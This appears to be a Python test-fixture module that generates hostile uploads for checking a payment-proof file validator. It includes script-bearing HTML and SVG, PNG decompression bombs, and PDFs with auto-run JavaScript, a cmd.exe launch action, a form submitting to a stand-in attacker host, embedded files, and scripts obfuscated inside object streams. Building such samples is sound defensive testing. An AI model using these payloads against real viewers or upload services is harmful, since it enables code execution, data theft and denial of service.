"""Images and PDFs that strangers send as proofs of payment."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Any

from PIL import Image

HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PNG = b"\x89PNG\r\n\x1a\n"


@cache
def picture(width: int, height: int, kind: str, mode: str = "RGB", **how: Any) -> bytes:
    """An honest picture of one colour running into another."""
    stream = io.BytesIO()
    Image.linear_gradient("L").resize((width, height)).convert(mode).save(stream, kind, **how)
    return stream.getvalue()


def noise(width: int, height: int) -> bytes:
    """A photo that can't be made small."""
    stream = io.BytesIO()
    Image.effect_noise((width, height), 80).convert("RGB").save(stream, "JPEG", quality=90)
    return stream.getvalue()


def png(width: int, height: int, *, colour: int = 2, megabytes: int = 1, more: bytes = b"") -> bytes:
    """A PNG that claims this size and unpacks to so many megabytes of nothing."""
    packer = zlib.compressobj(9)
    block = bytes(2**20)
    packed = b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()
    head = struct.pack(">2L5B", width, height, 8, colour, 0, 0, 0)
    return PNG + chunk(b"IHDR", head) + more + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def chunk(name: bytes, content: bytes) -> bytes:
    """One part of a PNG with its sum."""
    return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of one empty page with these objects besides."""
    page = [
        b"<</Type/Catalog/Pages 2 0 R" + trailer + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
    ]
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate([*page, *objects], start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)
    return bytes(body)


def object_stream(hidden: bytes, *, more: bytes = b"", packed: bytes | None = None) -> bytes:
    """An object stream that holds another object, deflated."""
    content = zlib.compress(b"9 0 " + hidden) if packed is None else packed
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode%s/Length %d>>\nstream\n%s\nendstream" % (
        more,
        len(content),
        content,
    )


def active_pdfs() -> Iterator[tuple[str, bytes]]:
    """PDFs with something in them that runs, sends, or is another file."""
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    yield "a script at its opening", pdf(script, trailer=b"/OpenAction 4 0 R")
    yield "a script with its name written otherwise", pdf(b"<</S/J#61v#61Script/JS(x)>>")
    yield "a launch", pdf(b"<</S/Launch/F(cmd.exe)>>")
    yield "another file inside", pdf(b"<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream")
    yield "a list of files inside", pdf(trailer=b"/Names<</EmbeddedFiles 4 0 R>>")
    yield "a form that sends", pdf(b"<</S/SubmitForm/F(http://evil.example)>>")
    yield "an XFA form", pdf(trailer=b"/AcroForm<</XFA 4 0 R>>")
    yield "a film", pdf(b"<</Subtype/RichMedia>>")
    yield "a script in an object stream", pdf(object_stream(script))
    yield "an object stream turned by a predictor", pdf(object_stream(script, more=b"/DecodeParms<</Predictor 12>>"))
    yield (
        "an object stream packed otherwise",
        pdf(b"<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Length 2>>\nstream\n3c>\nendstream"),
    )
    yield (
        "an object stream packed twice",
        pdf(b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length 2>>\nstream\nxx\nendstream"),
    )
    yield (
        "an object stream whose type stands elsewhere",
        pdf(object_stream(script).replace(b"/Type/ObjStm", b"/Type 9 0 R")),
    )
    yield "an encrypted one", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 4 0 R")
